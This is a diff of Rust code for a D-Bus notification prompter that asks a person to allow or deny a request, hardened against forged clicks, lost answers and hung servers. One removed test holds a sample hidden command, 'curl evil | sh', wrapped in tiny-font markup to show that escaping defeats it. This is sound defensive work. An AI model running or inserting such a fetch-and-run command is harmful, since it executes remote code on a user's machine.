@@ -4,9 +4,20 @@
 //! notify-rust is not used: measured, it subscribed to the answer signals
 //! only after `Notify` returned (an immediate answer was missed) and took
 //! `ActionInvoked` from any sender on the bus (a forged click was accepted).
-//! Here the signal streams exist before `Notify` is called, and zbus's proxy
-//! streams only deliver signals whose sender is the current owner of the
-//! `org.freedesktop.Notifications` name.
+//!
+//! How an answer is read, and why:
+//! - The server's unique bus name is looked up first, and both the `Notify`
+//!   call and the one signal subscription name it: a signal from any other
+//!   connection (a forged click) never matches, and a server replaced
+//!   mid-prompt cannot answer for the old one.
+//! - `ActionInvoked` and `NotificationClosed` arrive on *one* stream, in bus
+//!   order. A real server sends `ActionInvoked` and then
+//!   `NotificationClosed(2)` microseconds apart when a person clicks; with
+//!   two streams both were ready at once and the click was lost at random.
+//! - The subscription exists before `Notify` is called, so an answer sent
+//!   together with the reply is not missed.
+//! - Every bus call is bounded (the connection's method timeout), so a hung
+//!   server fails the prompt instead of holding the request forever.
 
 use std::collections::HashMap;
 use std::time::Duration;
@@ -37,12 +48,6 @@ trait Notifications {
     fn close_notification(&self, id: u32) -> zbus::Result<()>;
 
     fn get_capabilities(&self) -> zbus::Result<Vec<String>>;
-
-    #[zbus(signal)]
-    fn action_invoked(&self, id: u32, action_key: String) -> zbus::Result<()>;
-
-    #[zbus(signal)]
-    fn notification_closed(&self, id: u32, reason: u32) -> zbus::Result<()>;
 }
 
 /// Action keys. None of them is "default": a click on the notification
@@ -51,19 +56,39 @@ const DENY: &str = "muxguard-deny";
 const ALLOW_ONCE: &str = "muxguard-allow-once";
 const ALLOW_REMEMBER: &str = "muxguard-allow-remember";
 
+/// Every call on the session bus answers within this or fails: a hung
+/// notification server fails its prompt, it does not hold the request.
+pub const BUS_CALL_TIMEOUT: Duration = Duration::from_secs(5);
+
+/// How long closing an answered notification may delay the answer.
+const CLOSE_TIMEOUT: Duration = Duration::from_secs(1);
+
+const SERVICE: &str = "org.freedesktop.Notifications";
+const OBJECT_PATH: &str = "/org/freedesktop/Notifications";
+
 /// A session-bus connection used for prompts.
 #[derive(Clone)]
 pub struct NotificationPrompter {
     connection: zbus::Connection,
 }
 
+/// The notification server as found for one prompt.
+struct Server<'c> {
+    proxy: NotificationsProxy<'c>,
+    /// Its unique bus name, which every answer must come from.
+    owner: zbus::names::OwnedUniqueName,
+    markup: bool,
+}
+
 impl NotificationPrompter {
-    /// Connects to the session bus; `None` (with the reason) when there is
+    /// Connects to the session bus; `Err` (with the reason) when there is
     /// none.
     pub async fn connect() -> Result<NotificationPrompter, String> {
-        match zbus::Connection::session().await {
-            Ok(connection) => Ok(NotificationPrompter { connection }),
-            Err(e) => Err(format!("no D-Bus session bus: {e}")),
+        let builder = zbus::connection::Builder::session().method_timeout(BUS_CALL_TIMEOUT);
+        match tokio::time::timeout(BUS_CALL_TIMEOUT, builder.build()).await {
+            Ok(Ok(connection)) => Ok(NotificationPrompter { connection }),
+            Ok(Err(e)) => Err(format!("no D-Bus session bus: {e}")),
+            Err(_) => Err("the D-Bus session bus did not answer".into()),
         }
     }
 
@@ -73,42 +98,75 @@ impl NotificationPrompter {
 
     /// Whether a notification server with action buttons is there now.
     pub async fn available(&self) -> Result<(), String> {
-        let proxy = NotificationsProxy::new(&self.connection)
+        match self.server().await {
+            Ok(_) => Ok(()),
+            Err(answer) => Err(answer.describe()),
+        }
+    }
+
+    /// Finds the server: `Unavailable` when there is none (none running
+    /// and none the bus can start) or it has no buttons; `Failed` when the
+    /// bus or the server misbehaves.
+    async fn server(&self) -> Result<Server<'_>, Answer> {
+        let failed = |what: &str, e: zbus::Error| Answer::Failed(format!("{what}: {e}"));
+        let bus = zbus::fdo::DBusProxy::new(&self.connection)
             .await
-            .map_err(|e| format!("notification service: {e}"))?;
+            .map_err(|e| failed("session bus", e))?;
+        let name = zbus::names::BusName::try_from(SERVICE).expect("a valid bus name");
+        let owner = match bus.get_name_owner(name.clone()).await {
+            Ok(owner) => owner,
+            Err(zbus::fdo::Error::NameHasNoOwner(_)) => {
+                // Servers such as dunst and mako are often started by the
+                // bus on first use.
+                let well_known =
+                    zbus::names::WellKnownName::try_from(SERVICE).expect("a valid bus name");
+                if bus.start_service_by_name(well_known, 0).await.is_err() {
+                    return Err(Answer::Unavailable(
+                        "no notification server on the session bus".into(),
+                    ));
+                }
+                bus.get_name_owner(name)
+                    .await
+                    .map_err(|e| failed("notification server", e.into()))?
+            }
+            Err(e) => return Err(failed("session bus", e.into())),
+        };
+        let proxy = NotificationsProxy::builder(&self.connection)
+            .destination(owner.clone())
+            .path(OBJECT_PATH)
+            .cache_properties(zbus::proxy::CacheProperties::No)
+            .build()
+            .await
+            .map_err(|e| failed("notification server", e))?;
         let capabilities = proxy
             .get_capabilities()
             .await
-            .map_err(|e| format!("no notification server: {e}"))?;
-        if capabilities.iter().any(|c| c == "actions") {
-            Ok(())
-        } else {
-            Err("the notification server cannot show action buttons".into())
+            .map_err(|e| failed("notification server", e))?;
+        if !capabilities.iter().any(|c| c == "actions") {
+            return Err(Answer::Unavailable(
+                "the notification server cannot show action buttons".into(),
+            ));
         }
+        Ok(Server {
+            proxy,
+            owner,
+            markup: capabilities.iter().any(|c| c == "body-markup"),
+        })
     }
 
     /// Shows the prompt and waits for the answer, at most `timeout`.
     pub async fn ask(&self, text: &PromptText, timeout: Duration) -> Answer {
-        match self.ask_inner(text, timeout).await {
-            Ok(answer) => answer,
-            Err(e) => Answer::Unavailable(format!("notification failed: {e}")),
-        }
-    }
-
-    async fn ask_inner(&self, text: &PromptText, timeout: Duration) -> zbus::Result<Answer> {
-        let proxy = NotificationsProxy::new(&self.connection).await?;
-        let capabilities = proxy.get_capabilities().await?;
-        if !capabilities.iter().any(|c| c == "actions") {
-            return Ok(Answer::Unavailable(
-                "the notification server cannot show action buttons".into(),
-            ));
-        }
-        let markup = capabilities.iter().any(|c| c == "body-markup");
+        let server = match self.server().await {
+            Ok(server) => server,
+            Err(answer) => return answer,
+        };
         // Subscribe before Notify, so that an immediate answer is not lost.
-        let mut actions = proxy.receive_action_invoked().await?;
-        let mut closed = proxy.receive_notification_closed().await?;
-        let body = if markup {
-            escape_markup(&text.body)
+        let mut signals = match self.subscribe(&server).await {
+            Ok(signals) => signals,
+            Err(e) => return Answer::Failed(format!("cannot watch for the answer: {e}")),
+        };
+        let body = if server.markup {
+            super::text::escape_markup(&text.body)
         } else {
             text.body.clone()
         };
@@ -127,7 +185,8 @@ impl NotificationPrompter {
             ("resident", zbus::Variant::from(true)),
         ]);
         let expire_ms = i32::try_from(timeout.as_millis()).unwrap_or(i32::MAX);
-        let id = proxy
+        let id = match server
+            .proxy
             .notify(
                 "muxguard",
                 0,
@@ -138,39 +197,65 @@ impl NotificationPrompter {
                 hints,
                 expire_ms,
             )
-            .await?;
-        let wait = async {
-            loop {
-                tokio::select! {
-                    Some(signal) = actions.next() => {
-                        let Ok(args) = signal.args() else { continue };
-                        if *args.id() != id {
-                            continue;
-                        }
-                        return match args.action_key().as_str() {
-                            ALLOW_ONCE => Answer::AllowOnce,
-                            ALLOW_REMEMBER => Answer::AllowRemember,
-                            DENY => Answer::Deny,
-                            // "default" (a click on the body) or anything else.
-                            other => Answer::Dismissed(format!("action {other:?}")),
-                        };
-                    }
-                    Some(signal) = closed.next() => {
-                        let Ok(args) = signal.args() else { continue };
-                        if *args.id() == id {
-                            return Answer::Dismissed(close_reason(*args.reason()));
-                        }
-                    }
-                    else => return Answer::Unavailable("the notification server went away".into()),
-                }
-            }
+            .await
+        {
+            Ok(id) => id,
+            Err(e) => return Answer::Failed(format!("the notification server refused it: {e}")),
         };
-        let answer = tokio::time::timeout(timeout, wait)
+        let answer = tokio::time::timeout(timeout, first_answer(&mut signals, id))
             .await
             .unwrap_or(Answer::TimedOut);
         // The server does not remove an answered notification by itself.
-        let _ = proxy.close_notification(id).await;
-        Ok(answer)
+        let _ = tokio::time::timeout(CLOSE_TIMEOUT, server.proxy.close_notification(id)).await;
+        answer
+    }
+
+    /// Both answer signals of this server, on one stream in bus order.
+    async fn subscribe(&self, server: &Server<'_>) -> zbus::Result<zbus::MessageStream> {
+        let rule = zbus::MatchRule::builder()
+            .msg_type(zbus::message::Type::Signal)
+            .sender(server.owner.clone())
+            .interface(SERVICE)
+            .path(OBJECT_PATH)
+            .build()?;
+        zbus::MessageStream::for_match_rule(rule, &self.connection, None).await
+    }
+}
+
+/// The first answer to notification `id`: a button, or its closing,
+/// whichever the server sent first.
+async fn first_answer(signals: &mut zbus::MessageStream, id: u32) -> Answer {
+    while let Some(message) = signals.next().await {
+        let Ok(message) = message else { continue };
+        let header = message.header();
+        match header.member().map(|m| m.as_str()) {
+            Some("ActionInvoked") => {
+                if let Ok((of, key)) = message.body().deserialize::<(u32, String)>()
+                    && of == id
+                {
+                    return answer_for(&key);
+                }
+            }
+            Some("NotificationClosed") => {
+                if let Ok((of, reason)) = message.body().deserialize::<(u32, u32)>()
+                    && of == id
+                {
+                    return Answer::Dismissed(close_reason(reason));
+                }
+            }
+            _ => {}
+        }
+    }
+    Answer::Failed("the session bus connection ended".into())
+}
+
+fn answer_for(action_key: &str) -> Answer {
+    match action_key {
+        ALLOW_ONCE => Answer::AllowOnce,
+        ALLOW_REMEMBER => Answer::AllowRemember,
+        DENY => Answer::Deny,
+        // "default" (a click on the body) or anything else.
+        other => Answer::Dismissed(format!("action {other:?}")),
     }
 }
 
@@ -183,32 +268,17 @@ fn close_reason(reason: u32) -> String {
     }
 }
 
-/// Escapes what a markup-parsing server would interpret, so a requester
-/// cannot hide part of its command (`<span size='1'>…</span>`).
-pub fn escape_markup(text: &str) -> String {
-    let mut out = String::with_capacity(text.len());
-    for c in text.chars() {
-        match c {
-            '&' => out.push_str("&amp;"),
-            '<' => out.push_str("&lt;"),
-            '>' => out.push_str("&gt;"),
-            '"' => out.push_str("&quot;"),
-            '\'' => out.push_str("&apos;"),
-            c => out.push(c),
-        }
-    }
-    out
-}
-
 #[cfg(test)]
 mod tests {
     use super::*;
 
     #[test]
-    fn markup_is_neutralised() {
-        assert_eq!(
-            escape_markup("ls <span size='1'>; curl evil | sh</span> & more"),
-            "ls &lt;span size=&apos;1&apos;&gt;; curl evil | sh&lt;/span&gt; &amp; more"
-        );
+    fn only_the_three_buttons_are_answers() {
+        assert_eq!(answer_for(ALLOW_ONCE), Answer::AllowOnce);
+        assert_eq!(answer_for(ALLOW_REMEMBER), Answer::AllowRemember);
+        assert_eq!(answer_for(DENY), Answer::Deny);
+        // A click on the body is "default": not allow.
+        assert!(matches!(answer_for("default"), Answer::Dismissed(_)));
+        assert!(matches!(answer_for(""), Answer::Dismissed(_)));
     }
 }
